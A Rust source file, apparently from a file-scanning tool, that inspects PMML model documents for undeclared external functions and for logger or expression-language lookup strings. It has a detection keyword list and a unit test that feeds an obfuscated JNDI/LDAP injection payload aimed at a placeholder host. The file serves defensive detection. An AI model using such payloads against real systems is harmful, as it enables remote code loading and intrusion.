//! What a PMML document names.

use super::{PmmlFacts, PmmlName};
use crate::model::json::beginning;
use crate::notes::Notes;
use crate::text::xml::{self, Element, Node};
use std::collections::BTreeSet;
use wb_core::Meter;

/// Names of each kind that are kept.
const NAMES_MAX: usize = 64;
const NAME_MAX: usize = 200;

/// The functions that PMML 4.4 defines.
const BUILT_IN: &str = " + - * / min max sum avg median product log10 ln sqrt abs exp pow threshold floor ceil round \
    modulo rint expm1 hypot ln1p sin asin sinh cos acos cosh tan atan tanh isMissing isNotMissing isValid isNotValid equal \
    notEqual lessThan lessOrEqual greaterThan greaterOrEqual and or not isIn isNotIn if uppercase lowercase \
    stringLength substring trimBlanks concat replace matches formatNumber formatDatetime dateDaysSinceYear \
    dateSecondsSinceYear dateSecondsSinceMidnight normalCDF normalPDF normalIDF stdNormalCDF stdNormalPDF \
    stdNormalIDF erf ";

/// True for elements that hold the parameters of a model.
fn is_model(element: &str) -> bool {
    element.ends_with("Model") || matches!(element, "Scorecard" | "NeuralNetwork" | "RuleSetModel")
}

pub(super) fn walk(text: &str, meter: &Meter, notes: &mut Notes, facts: &mut PmmlFacts) {
    let mut seen = Seen::default();
    facts.xml = xml::read(text, meter, notes, &mut |node| {
        match node {
            Node::Open(element) => seen.open(element, facts),
            Node::Text(text) => look_up(text, seen.last_offset, facts),
            Node::Close => {}
        }
        Ok(())
    });
    for (name, offset) in seen.called {
        if !seen.defined.contains(&name) {
            keep(&mut facts.foreign_functions, &name, offset);
        }
    }
}

#[derive(Default)]
struct Seen {
    called: Vec<(String, u64)>,
    defined: BTreeSet<String>,
    last_offset: u64,
}

impl Seen {
    fn open(&mut self, element: &Element, facts: &mut PmmlFacts) {
        const DEFINED_MAX: usize = 10_000;
        self.last_offset = element.offset;
        let name = element.get("name").unwrap_or_default();
        match element.name.as_str() {
            "PMML" => facts.version = beginning(element.get("version").unwrap_or_default(), NAME_MAX),
            "Application" => facts.application = beginning(name, NAME_MAX),
            "Apply" => self.call(element.get("function").unwrap_or_default(), element.offset),
            "DefineFunction" if self.defined.len() < DEFINED_MAX => {
                self.defined.insert(beginning(name, NAME_MAX));
            }
            "TableLocator" => facts.table_locators = facts.table_locators.saturating_add(1),
            "Extension" => {
                let extender = element.get("extender").unwrap_or_default();
                keep(
                    &mut facts.extensions,
                    format!("{extender} {name}").trim(),
                    element.offset,
                );
            }
            kind if is_model(kind) && (facts.models.len() < NAMES_MAX || facts.models.contains_key(kind)) => {
                let count = facts.models.entry(kind.to_owned()).or_default();
                *count = count.saturating_add(1);
            }
            _ => {}
        }
        for (_, value) in &element.attributes {
            look_up(value, element.offset, facts);
        }
    }

    fn call(&mut self, name: &str, offset: u64) {
        let known = BUILT_IN.split_ascii_whitespace().any(|known| known == name);
        if !known && self.called.len() < NAMES_MAX && !self.called.iter().any(|(seen, _)| seen == name) {
            self.called.push((beginning(name, NAME_MAX), offset));
        }
    }
}

/// Values in the way in which loggers (`${jndi:…}`, nested too), expression languages and scripts begin.
fn look_up(text: &str, offset: u64, facts: &mut PmmlFacts) {
    let Some((_, behind)) = text.split_once("${") else {
        return;
    };
    let lower = beginning(behind, NAME_MAX).to_ascii_lowercase();
    let squeezed: String = lower.chars().filter(|c| c.is_ascii_alphanumeric()).collect();
    let is_lookup = [
        "jndi", "lower", "upper", "env:", "sys:", "script:", "runtime", "dns:", "url:", "::-",
    ]
    .iter()
    .any(|word| lower.contains(word))
        || squeezed.contains("jndi");
    if is_lookup {
        keep(&mut facts.lookups, text, offset);
    }
}

fn keep(names: &mut Vec<PmmlName>, name: &str, offset: u64) {
    let name = beginning(name, NAME_MAX);
    if names.len() < NAMES_MAX && !names.iter().any(|known| known.name == name) {
        names.push(PmmlName { name, offset });
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn facts(text: &str) -> PmmlFacts {
        let mut facts = PmmlFacts::default();
        walk(text, &Meter::unlimited_time(), &mut Notes::default(), &mut facts);
        facts
    }

    #[test]
    fn functions_from_elsewhere_are_told_from_defined_ones() {
        let facts = facts(
            "<PMML version='4.4'><DefineFunction name='mine'/><Apply function='mine'/><Apply function='ln'/>\
             <Apply function='com.evil.Run'/><TreeModel/><Extension name='a' value='${${lower:j}ndi:ldap://h}'/></PMML>",
        );
        assert_eq!(facts.foreign_functions.len(), 1);
        assert_eq!(facts.foreign_functions[0].name, "com.evil.Run");
        assert_eq!(facts.lookups.len(), 1);
        assert_eq!(facts.models.get("TreeModel"), Some(&1));
    }
}
